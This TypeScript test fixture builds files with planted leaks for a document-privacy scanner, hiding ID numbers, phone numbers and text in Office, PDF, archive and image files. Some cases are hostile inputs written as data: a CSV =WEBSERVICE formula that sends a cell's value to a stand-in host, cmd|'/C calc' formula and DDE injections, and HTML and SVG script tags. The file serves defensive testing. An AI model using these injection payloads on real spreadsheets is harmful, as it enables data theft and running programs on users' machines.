import { createHash } from 'node:crypto'
import {
  edited,
  jpeg,
  line,
  pdf,
  png,
  shape,
  slides,
  stream,
  wordFile,
  workbook,
  zipOf,
  type Parts,
} from './made-files.ts'
import { ID, type Leak } from './planted-leaks.ts'

/** Leaks of the list of an officer who has seen many: looks of styles and grounds, leftovers of programs, other formats. */

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const PHONE = '13800138000'
const SECRET = '藏在这里的话'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const run = (text: string, properties = '') => `<w:r><w:rPr>${properties}</w:rPr><w:t>${text}</w:t></w:r>`
const paragraph = (...runs: string[]) => `<w:p>${runs.join('')}</w:p>`
const relations = (...list: [string, string, string][]) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${list
    .map(([id, type, target]) => `<Relationship Id="${id}" Type="${OFFICE}/${type}" Target="${target}"/>`)
    .join('')}</Relationships>`

type Rest = Partial<Pick<Leak, 'kind' | 'place' | 'excerpt'>>
const leak = (name: string, file: Leak['file'], rest: Rest = {}, as?: string): Leak => ({
  ...{ name, file, kind: 'resident-id', place: /./ },
  ...(as === undefined ? {} : { as }),
  ...rest,
})
const inWord = (
  name: string,
  xml: string,
  rest: Rest = {},
  parts: Record<string, string | Buffer | ((xml: string) => string)> = {},
): Leak =>
  leak(
    `文档：${name}`,
    async () =>
      edited(await wordFile(['正文甲']), {
        ...(xml === '' ? {} : { 'word/document.xml': (x: string) => x.replace('</w:body>', `${xml}</w:body>`) }),
        ...parts,
      }),
    rest,
  )
const styled = (name: string, style: string, rest: Rest = {}): Leak =>
  inWord(
    name,
    `<w:p><w:pPr><w:pStyle w:val="Odd"/></w:pPr>${run(SECRET)}</w:p>`,
    { kind: 'hidden-text', place: /第 3 段/, ...rest },
    {
      'word/styles.xml': (x) => x.replace('</w:styles>', `${style}</w:styles>`),
    },
  )
const style = (id: string, inside: string) => `<w:style w:type="paragraph" w:styleId="${id}">${inside}</w:style>`
const inCells = (name: string, make: Parameters<typeof workbook>[0], rest: Rest = {}): Leak =>
  leak(`表格：${name}`, () => workbook(make), rest)
const inSheet = (name: string, changes: Parameters<typeof edited>[1], rest: Rest = {}): Leak =>
  leak(`表格：${name}`, async () => edited(await workbook(() => undefined), changes), rest)
const onSlide = (name: string, shapes: readonly string[], rest: Rest = {}, parts: Parts = {}): Leak =>
  leak(`幻灯片：${name}`, () => slides(shapes, { parts }), rest)
const onPage = (name: string, making: Parameters<typeof pdf>[0], rest: Rest = {}): Leak =>
  leak(`PDF：${name}`, () => pdf(making), rest)
const inText = (name: string, text: string | Buffer, rest: Rest = {}, as = 'a.txt'): Leak =>
  leak(`文本：${name}`, () => Buffer.from(text), rest, as)

const words = (numerals: string, text = ID) => [...text].map((sign) => numerals[Number(sign)] ?? sign).join('')
const white = (fill = '') =>
  shape('标题') +
  `<p:sp><p:nvSpPr><p:cNvPr id="7" name="字"/></p:nvSpPr><p:spPr><a:xfrm><a:off x="1000000" y="3000000"/><a:ext cx="3000000" cy="600000"/></a:xfrm>${fill}</p:spPr>` +
  `<p:txBody><a:p><a:r><a:rPr><a:solidFill><a:srgbClr val="FFFFFF"/></a:solidFill></a:rPr><a:t>${SECRET}</a:t></a:r></a:p></p:txBody></p:sp>`
const drawingOver = (shapeXml: string) => ({
  'xl/worksheets/_rels/sheet1.xml.rels': relations(['rId9', 'drawing', '../drawings/drawing1.xml']),
  'xl/worksheets/sheet1.xml': (x: string) =>
    x.replace('</worksheet>', `<drawing xmlns:r="${OFFICE}" r:id="rId9"/></worksheet>`),
  'xl/drawings/drawing1.xml': `<xdr:wsDr xmlns:xdr="x" xmlns:a="a" xmlns:r="${OFFICE}"><xdr:twoCellAnchor><xdr:from><xdr:col>0</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>0</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>3</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>3</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>${shapeXml}<xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>`,
})
const conditional = (formula: string, dxf: string) => ({
  'xl/styles.xml': (x: string) => x.replace('<dxfs count="0"/>', `<dxfs count="1"><dxf>${dxf}</dxf></dxfs>`),
  'xl/worksheets/sheet1.xml': (x: string) =>
    x.replace(
      '</sheetData>',
      `</sheetData><conditionalFormatting sqref="A1:C2"><cfRule type="expression" dxfId="0" priority="1"><formula>${formula}</formula></cfRule></conditionalFormatting>`,
    ),
})
const afterEnd = (file: Buffer, more: Buffer) => Buffer.concat([file, more])
const chunk = (type: string, data: Buffer) => {
  const head = Buffer.alloc(4)
  head.writeUInt32BE(data.length)
  return Buffer.concat([head, Buffer.from(type), data, Buffer.alloc(4)])
}
const withChunk = (type: string, data: Buffer): Buffer => {
  const plain = png()
  const at = plain.indexOf('IDAT') - 4
  return Buffer.concat([plain.subarray(0, at), chunk(type, data), plain.subarray(at)])
}
const segment = (marker: number, data: Buffer): Buffer => {
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(data.length + 2, 2)
  const plain = jpeg()
  return Buffer.concat([plain.subarray(0, 2), head, data, plain.subarray(2)])
}
/** Exif with a second picture inside. */
const withThumbnail = () => {
  const small = Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex')
  const tiff = Buffer.concat([
    Buffer.from('49492a000800000000000e000000', 'hex'),
    Buffer.from('0200010204000100000038000000020204000100000016000000', 'hex'),
    Buffer.alloc(0),
  ])
  const padded = Buffer.concat([tiff, Buffer.alloc(56 - tiff.length), small])
  return segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), padded]))
}
const tiff = (description: string) => {
  const text = Buffer.from(`${description}\0`)
  const head = Buffer.from('49492a0008000000', 'hex')
  const entry = (tag: number, type: number, count: number, value: number) => {
    const bytes = Buffer.alloc(12)
    bytes.writeUInt16LE(tag, 0)
    bytes.writeUInt16LE(type, 2)
    bytes.writeUInt32LE(count, 4)
    bytes.writeUInt32LE(value, 8)
    return bytes
  }
  const entries = [entry(256, 3, 1, 1), entry(257, 3, 1, 1), entry(270, 2, text.length, 8 + 2 + 36 + 4)]
  return Buffer.concat([head, Buffer.from([3, 0]), ...entries, Buffer.alloc(4), text])
}
const xmp = (text: string) =>
  `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:description><rdf:Alt><rdf:li xml:lang="x-default">${text}</rdf:li></rdf:Alt></dc:description></rdf:Description></rdf:RDF></x:xmpmeta>`
const iptc = (text: string) => {
  const data = Buffer.concat([Buffer.from([0x1c, 2, 120, 0, text.length]), Buffer.from(text)])
  const size = Buffer.alloc(4)
  size.writeUInt32BE(data.length)
  return Buffer.concat([
    Buffer.from('Photoshop 3.0\0'),
    Buffer.from('8BIM'),
    Buffer.from([4, 4, 0, 0]),
    size,
    data,
    Buffer.alloc(data.length % 2),
  ])
}
/** Encrypted only to forbid changes: it opens without a password. ISO 32000-1, 7.6.3, revision 2 */
function ownerLocked(making: Parameters<typeof pdf>[0]): Buffer {
  const pad = Buffer.from('28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a', 'hex')
  const md5 = (...parts: Buffer[]) => createHash('md5').update(Buffer.concat(parts)).digest()
  const owner = rc4(md5(Buffer.from('office'.padEnd(6)), pad.subarray(0, 26)).subarray(0, 5), pad)
  const id = Buffer.from('0123456789abcdef')
  const key = md5(pad, owner, Buffer.from([0xfc, 0xff, 0xff, 0xff]), id).subarray(0, 5)
  const hexed = (bytes: Buffer) => `<${bytes.toString('hex')}>`
  const file = pdf(making).toString('latin1')
  const whole = file
    .slice(0, file.indexOf('xref'))
    .replace(/(\d+) 0 obj\n([^]*?)\nendobj/g, (_, number: string, body: string) => {
      const own = md5(key, Buffer.from([Number(number), 0, 0, 0, 0])).subarray(0, 10)
      const sealed = body.replace(
        /\nstream\n([^]*)\nendstream/,
        (_all, content: string) =>
          `\nstream\n${rc4(own, Buffer.from(content, 'latin1')).toString('latin1')}\nendstream`,
      )
      const [head = '', ...rest] = sealed.split('\nstream\n')
      const hidden = head.replace(/\(([^()]*)\)/g, (_all, text: string) => hexed(rc4(own, Buffer.from(text, 'latin1'))))
      return `${number} 0 obj\n${[hidden, ...rest].join('\nstream\n')}\nendobj`
    })
  const offsets = [...whole.matchAll(/^(\d+) 0 obj$/gm)].map(
    ({ index }) => `${String(index).padStart(10, '0')} 00000 n \n`,
  )
  const encrypt = `<< /Filter /Standard /V 1 /R 2 /O ${hexed(owner)} /U ${hexed(rc4(key, pad))} /P -4 >>`
  const trailer = `trailer\n<< /Size ${offsets.length + 1} /Root 1 0 R /Info 3 0 R /Encrypt ${encrypt} /ID [${hexed(id)} ${hexed(id)}] >>`
  return Buffer.from(
    `${whole}xref\n0 ${offsets.length + 1}\n0000000000 65535 f \n${offsets.join('')}${trailer}\nstartxref\n${whole.length}\n%%EOF\n`,
    'latin1',
  )
}

function rc4(key: Buffer, data: Buffer): Buffer {
  const state = Uint8Array.from({ length: 256 }, (_, at) => at)
  const swap = (one: number, other: number) => ([state[one], state[other]] = [state[other] ?? 0, state[one] ?? 0])
  for (let at = 0, to = 0; at < 256; at += 1) {
    to = (to + (state[at] ?? 0) + (key[at % key.length] ?? 0)) & 255
    swap(at, to)
  }
  let [from, to] = [0, 0]
  return Buffer.from(
    data.map((byte) => {
      from = (from + 1) & 255
      to = (to + (state[from] ?? 0)) & 255
      swap(from, to)
      return byte ^ (state[((state[from] ?? 0) + (state[to] ?? 0)) & 255] ?? 0)
    }),
  )
}
const photo = (entries: string, content = '0') =>
  `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length ${content.length} ${entries} >>\nstream\n${content}\nendstream`

export const RARER: readonly Leak[] = [
  inText('中文数字', `证件${words('〇一二三四五六七八九')}`),
  inText('中文数字里的零和幺', `证件${words('零幺二三四五六七八九')}`),
  inText('大写中文数字', `证件${words('零壹贰叁肆伍陆柒捌玖')}`),
  inText('中文数字的手机号码', `电话${words('零一二三四五六七八九', PHONE)}`, { kind: 'mobile' }),
  inText('隔两个空格的数字', `证件 ${[...ID].join('  ')}`),
  inText('逗号加空格隔开', [...ID].join(', ')),
  inText('星号隔开', `证件${[...ID].join('*')}`),
  inText('西里尔字母的末位', `证件${ID.slice(0, 17)}Х`),
  inText('乘号的末位', `证件${ID.slice(0, 17)}×`),
  inText('罗马数字的末位', `证件${ID.slice(0, 17)}Ⅹ`),
  inText('一行一个数字', [...ID].join('\n')),
  inText('形如数字的字母', `证件${ID.replaceAll('0', 'O')}`),
  inText('大端的 UTF-16', Buffer.from(`\uFEFF证件,${ID}\r\n`, 'utf16le').swap16(), {}, 'a.csv'),
  inText(
    'GB18030 里的全角数字',
    Buffer.concat([
      Buffer.from([0xd6, 0xa4]),
      ...[...ID].map((sign) => Buffer.from([0xa3, 0x80 + sign.charCodeAt(0)])),
    ]),
  ),
  inText('编码成转义的文字', `{"id":"${[...ID].map((sign) => `\\u00${sign.charCodeAt(0).toString(16)}`).join('')}"}`),
  inText(
    '编码成网址的文字',
    `https://www.example.org/?q=${[...ID].map((sign) => `%${sign.charCodeAt(0).toString(16)}`).join('')}`,
  ),
  inText(
    '会执行的公式',
    `项目,金额\n"=WEBSERVICE(""http://x.example.org/""&A1)",1`,
    { kind: 'script', place: /第 2 行/ },
    'a.csv',
  ),
  inText('启动程序的公式', `项目,金额\n=cmd|'/C calc'!A0,1`, { kind: 'script', place: /第 2 行/ }, 'a.csv'),
  inText('网页里的脚本', '<html><script>fetch("x")</script></html>', { kind: 'script' }, 'a.txt'),
  leak('压缩包：RTF 文件', () => zipOf({ 'a.rtf': '{\\rtf1 {\\v secret}}' }), { kind: 'unreadable', place: /a\.rtf/ }),

  styled('样式里的白字', style('Odd', '<w:rPr><w:color w:val="FFFFFF"/></w:rPr>')),
  styled('样式里的小字', style('Odd', '<w:rPr><w:sz w:val="2"/></w:rPr>')),
  styled('继承来的隐藏', style('Base', '<w:rPr><w:vanish/></w:rPr>') + style('Odd', '<w:basedOn w:val="Base"/>')),
  inWord('缩进到页面之外', `<w:p><w:pPr><w:ind w:left="30000"/></w:pPr>${run(SECRET)}</w:p>`, { kind: 'hidden-text' }),
  inWord('压扁的字', paragraph(run(SECRET, '<w:w w:val="1"/>')), { kind: 'hidden-text' }),
  inWord('缩略图', '', { kind: 'metadata', place: /缩略图/ }, { 'docProps/thumbnail.jpeg': jpeg() }),
  inWord(
    '批注人名单',
    '',
    { kind: 'author' },
    { 'word/people.xml': '<w15:people xmlns:w15="w15"><w15:person w15:author="钱七"/></w15:people>' },
  ),
  inWord(
    '邮件合并的数据源',
    '',
    { kind: 'external-link' },
    {
      'word/settings.xml': `<w:settings ${W}><w:mailMerge><w:connectString w:val="Data Source=hr-server"/><w:query w:val="SELECT * FROM 名单"/></w:mailMerge></w:settings>`,
    },
  ),
  inWord(
    '邮件合并的收件人',
    '',
    {},
    {
      'word/recipientData.xml': `<w:recipients ${W}><w:recipientData><w:uniqueTag w:val="${ID}"/></w:recipientData></w:recipients>`,
    },
  ),
  inWord(
    '墨迹里的文字',
    '',
    {},
    {
      'word/ink/ink1.xml': `<inkml:ink xmlns:inkml="i"><inkml:annotation type="text">${ID}</inkml:annotation></inkml:ink>`,
    },
  ),
  inWord(
    '图片浮在文字上方',
    `<w:p><w:r><w:drawing><wp:anchor xmlns:wp="wp" xmlns:a="a" xmlns:r="${OFFICE}" behindDoc="0"><wp:extent cx="5000000" cy="900000"/><wp:wrapNone/><wp:docPr id="7" name="图"/><a:graphic><a:graphicData><pic:pic xmlns:pic="p"><pic:blipFill><a:blip r:embed="rId77"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:anchor></w:drawing></w:r>${run('李某某')}</w:p>`,
    { kind: 'covered-text', place: /第 3 段/ },
    {
      'word/media/image7.png': png(),
      'word/_rels/document.xml.rels': (x) =>
        x.replace(
          '</Relationships>',
          `<Relationship Id="rId77" Type="${OFFICE}/image" Target="media/image7.png"/></Relationships>`,
        ),
    },
  ),
  inWord(
    '嵌入的 OLE 包',
    '',
    { kind: 'embedded-file' },
    { 'word/embeddings/oleObject1.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') },
  ),
  inWord(
    '图表里筛选掉的系列',
    '',
    { kind: 'hidden-object' },
    {
      'word/charts/chart9.xml':
        '<c:chartSpace xmlns:c="c" xmlns:c15="c15"><c:extLst><c:ext uri="x"><c15:filteredBarSeries><c15:ser><c:tx><c:v>内部数</c:v></c:tx></c15:ser></c15:filteredBarSeries></c:ext></c:extLst></c:chartSpace>',
    },
  ),

  inSheet('条件格式的白字', conditional('TRUE', '<font><color rgb="FFFFFFFF"/></font>'), {
    kind: 'hidden-text',
    place: /A1:C2/,
  }),
  inSheet('条件格式的空白格式', conditional('ROW()&gt;0', '<numFmt numFmtId="170" formatCode=";;;"/>'), {
    kind: 'hidden-text',
    place: /A1:C2/,
  }),
  inSheet(
    '黑色方块下的单元格',
    drawingOver(
      '<xdr:sp><xdr:nvSpPr><xdr:cNvPr id="2" name="块"/></xdr:nvSpPr><xdr:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="400000"/></a:xfrm><a:solidFill><a:srgbClr val="000000"/></a:solidFill></xdr:spPr></xdr:sp>',
    ),
    { kind: 'covered-text', place: /单元格 B2/ },
  ),
  inSheet(
    '白色方块下的单元格',
    drawingOver(
      '<xdr:sp><xdr:nvSpPr><xdr:cNvPr id="2" name="块"/></xdr:nvSpPr><xdr:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="400000"/></a:xfrm><a:solidFill><a:srgbClr val="FFFFFF"/></a:solidFill></xdr:spPr></xdr:sp>',
    ),
    { kind: 'covered-text', place: /单元格 B2/ },
  ),
  inSheet(
    '图片下的单元格',
    {
      ...drawingOver(
        '<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="图"/></xdr:nvPicPr><xdr:blipFill><a:blip r:embed="rId1"/></xdr:blipFill><xdr:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="400000"/></a:xfrm></xdr:spPr></xdr:pic>',
      ),
      'xl/drawings/_rels/drawing1.xml.rels': relations(['rId1', 'image', '../media/image1.png']),
      'xl/media/image1.png': png(),
    },
    { kind: 'covered-text', place: /单元格 B2/ },
  ),
  inSheet(
    '没有列出的工作表',
    {
      'xl/worksheets/sheet8.xml':
        '<worksheet><sheetData><row r="1"><c r="A1" t="str"><v>底稿</v></c></row></sheetData></worksheet>',
    },
    { kind: 'hidden-sheet' },
  ),
  inSheet(
    '批注人名单',
    { 'xl/persons/person.xml': '<personList><person displayName="钱七" id="{1}"/></personList>' },
    { kind: 'author' },
  ),
  inSheet('查询的公式', { 'customXml/item1.xml': '<DataMashup>UEsDBBQAAgAIAA==</DataMashup>' }, { kind: 'metadata' }),
  inSheet('数据模型', { 'xl/model/item.data': Buffer.from('data model 12345') }, { kind: 'embedded-file' }),
  inSheet('切片器的缓存', {
    'xl/slicerCaches/slicerCache1.xml': `<slicerCacheDefinition name="a"><data><tabular><items><i x="0" n="${ID}"/></items></tabular></data></slicerCacheDefinition>`,
  }),
  inSheet(
    'DDE 链接',
    {
      'xl/externalLinks/externalLink1.xml':
        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    },
    { kind: 'external-link' },
  ),
  inSheet(
    '缩略图',
    { 'docProps/thumbnail.wmf': Buffer.from('d7cdc69a0000', 'hex') },
    { kind: 'metadata', place: /缩略图/ },
  ),
  inCells('启动程序的公式', (_, s) => void (s.getCell('D2').value = { formula: `cmd|'/C calc'!A0`, result: '' }), {
    kind: 'script',
  }),

  onSlide('白底白字', [white()], { kind: 'hidden-text', place: /幻灯片 1/, excerpt: /藏在/ }),
  onSlide('白色方块里的白字', [white('<a:solidFill><a:srgbClr val="FFFFFF"/></a:solidFill>')], { kind: 'hidden-text' }),
  onSlide(
    '组合里页面之外的字',
    [
      `${shape('标题')}<p:grpSp><p:grpSpPr><a:xfrm><a:off x="13000000" y="0"/><a:ext cx="900000" cy="900000"/><a:chOff x="13000000" y="0"/><a:chExt cx="900000" cy="900000"/></a:xfrm></p:grpSpPr>${shape(SECRET)}</p:grpSp>`,
    ],
    { kind: 'hidden-object' },
  ),
  onSlide(
    '没有列出的一页',
    [shape('一')],
    { kind: 'hidden-slide', place: /幻灯片 9/ },
    {
      'ppt/_rels/presentation.xml.rels': relations(['rId1', 'slide', 'slides/slide1.xml']),
      'ppt/slides/slide9.xml':
        '<p:sld xmlns:p="p" xmlns:a="a"><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>底稿</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>',
    },
  ),
  onSlide(
    '新式批注的作者',
    [shape('一')],
    { kind: 'author' },
    { 'ppt/authors.xml': '<p188:authorLst xmlns:p188="p188"><p188:author id="{1}" name="钱七"/></p188:authorLst>' },
  ),
  onSlide('缩略图', [shape('一')], { kind: 'metadata', place: /缩略图/ }, { 'docProps/thumbnail.jpeg': jpeg() }),

  leak('PDF：只限制修改的文件里的隐藏文字', () =>
    ownerLocked({ catalogue: `/PageLabels << /Nums [0 << /S /D /P (${ID}) >>] >>` }),
  ),
  leak('PDF：只限制修改的文件里的手机号码', () => ownerLocked({ pages: [line(PHONE)] }), { kind: 'mobile' }),
  onPage(
    '裁切框之外的文字',
    { pages: [`${line('shown', 500)} ${line('outside the crop', 100)}`], page: '/CropBox [0 300 595 842]' },
    { kind: 'hidden-text', place: /第 1 页/ },
  ),
  onPage(
    '裁切框之外的图片',
    { pages: ['q 595 0 0 842 0 0 cm /I1 Do Q'], page: '/CropBox [0 300 595 842]' },
    { kind: 'cropped-picture' },
  ),
  onPage('图片的 XMP', {
    pages: [`${line('x')} q 50 0 0 50 72 72 cm /I2 Do Q`],
    pictures: '/I2 10 0 R',
    objects: [photo('/Metadata 11 0 R'), stream(xmp(ID), '/Type /Metadata /Subtype /XML')],
  }),
  onPage('程序的私有数据', {
    catalogue: '/PieceInfo << /App << /Private 10 0 R >> >>',
    objects: [stream(`draft ${ID} end`, '/Type /AppData')],
  }),
  onPage('页面的缩略图', { objects: [photo('')], page: '/Thumb 10 0 R' }, { kind: 'metadata', place: /缩略图/ }),
  onPage(
    '没有列出的附件',
    {
      catalogue: '/AF [10 0 R]',
      objects: ['<< /Type /Filespec /F (a.txt) /EF << /F 11 0 R >> >>', stream('draft text', '/Type /EmbeddedFile')],
    },
    { kind: 'embedded-file' },
  ),
  onPage(
    '没有显示的页面',
    {
      objects: [
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 11 0 R /Resources << /Font << /F1 4 0 R >> >> >>',
        stream(line('draft page')),
      ],
    },
    { kind: 'hidden-object' },
  ),
  onPage(
    '裁掉一半的图片',
    { pages: [`${line('x')} q 100 100 50 100 re W n 200 0 0 100 100 100 cm /I1 Do Q`] },
    { kind: 'cropped-picture', place: /第 1 页/ },
  ),
  onPage(
    '扫描页裁掉的一半',
    { pages: ['q 100 100 50 100 re W n 200 0 0 100 100 100 cm /I1 Do Q'] },
    { kind: 'cropped-picture', place: /第 1 页/ },
  ),
  onPage(
    '伸到页面之外的图片',
    { pages: [`${line('x')} q 800 0 0 100 100 100 cm /I1 Do Q`] },
    { kind: 'cropped-picture', place: /第 1 页/ },
  ),

  leak('压缩包：结尾之后的数据', () => afterEnd(zipOf({ 'a.txt': '正文' }), Buffer.from('x'.repeat(99))), {
    kind: 'trailing-data',
  }),
  leak(
    '压缩包：注释',
    () => {
      const file = zipOf({ 'a.txt': '正文' })
      const note = Buffer.from('初稿，领导未审')
      file.writeUInt16LE(note.length, file.length - 2)
      return afterEnd(file, note)
    },
    { kind: 'comment', place: /压缩包/ },
  ),
  leak(
    '压缩包：OFD 文件',
    () => zipOf({ 'a.ofd': zipOf({ 'OFD.xml': '<ofd:OFD/>', 'Doc_0/Document.xml': '<ofd:Document/>' }) }),
    { kind: 'unreadable', place: /a\.ofd/ },
  ),
  leak(
    '压缩包：ODS 文件',
    () =>
      zipOf({
        'a.ods': zipOf({
          mimetype: 'application/vnd.oasis.opendocument.spreadsheet',
          'content.xml': '<office:document-content/>',
        }),
      }),
    { kind: 'unreadable', place: /a\.ods/ },
  ),
  leak(
    '压缩包：HEIC 照片',
    () => zipOf({ 'a.heic': Buffer.concat([Buffer.from('000000186674797068656963', 'hex'), Buffer.alloc(40)]) }),
    { kind: 'unreadable', place: /a\.heic/, excerpt: /JPG/ },
  ),
  leak('压缩包：GIF 图片', () => zipOf({ 'a.gif': Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1') }), {
    kind: 'unreadable',
    place: /a\.gif/,
    excerpt: /JPG/,
  }),
  leak(
    '压缩包：SVG 里的脚本',
    () => zipOf({ 'a.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("x")</script></svg>' }),
    { kind: 'script', place: /a\.svg/ },
  ),

  leak('图片：XMP', () => segment(0xe1, Buffer.from(`http://ns.adobe.com/xap/1.0/\0${xmp(ID)}`))),
  leak('图片：IPTC', () => segment(0xed, iptc(ID))),
  leak('图片：照片里的缩略图', () => withThumbnail(), { kind: 'metadata', place: /缩略图/ }),
  leak(
    '图片：动态照片的视频',
    () => afterEnd(jpeg(), Buffer.concat([Buffer.from('000000186674797069736f6d', 'hex'), Buffer.alloc(90, 7)])),
    { kind: 'trailing-data' },
  ),
  leak('图片：第二张图片', () => afterEnd(jpeg(), jpeg({ description: 'second picture' })), { kind: 'trailing-data' }),
  leak('图片：PNG 之后的数据', () => afterEnd(png(), Buffer.from('x'.repeat(99))), { kind: 'trailing-data' }),
  leak('图片：PNG 里的程序数据', () => withChunk('prVW', Buffer.from(`draft ${ID}`))),
  leak('图片：PNG 里夹带的数据', () => withChunk('mkBT', Buffer.alloc(5000, 7)), { kind: 'trailing-data' }),
  leak('图片：PNG 的 Exif', () => withChunk('eXIf', jpeg({ gps: true, artist: 'Wang Wu' }).subarray(12)), {
    kind: 'picture-location',
  }),
  leak('图片：TIFF 的说明', () => tiff(`tel ${PHONE}`), { kind: 'mobile' }),
]
